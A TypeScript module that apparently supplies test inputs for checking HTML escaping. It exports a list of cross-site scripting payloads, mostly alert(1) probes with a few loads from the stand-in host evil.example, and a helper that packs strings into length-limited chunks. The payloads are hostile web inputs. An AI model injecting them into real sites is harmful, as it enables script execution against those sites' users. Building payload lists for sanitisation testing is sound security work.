/** Texts that run as code wherever a page does not treat them as text. */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '</textarea><img src=x onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<a href=javascript:alert(1)>click</a>',
  '<form action=javascript:alert(1)><button>go',
  '<button formaction=javascript:alert(1)>go',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<math><mtext><script>alert(1)</script>',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<style>@import "//evil.example/x.css"</style>',
  '<p style=background:url(//evil.example)>x',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)}',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  "'-alert(1)-'",
  '<template><script>alert(1)</script></template>',
];

/** Joins the parts into as few texts of at most this length as they need. */
export const chunk = (parts: readonly string[], charactersMax: number): string[] => {
  const chunks: string[] = [];
  for (const part of parts) {
    const joined = `${chunks.at(-1)} ${part}`;
    if (chunks.length > 0 && joined.length <= charactersMax) chunks[chunks.length - 1] = joined;
    else chunks.push(part);
  }
  return chunks;
};
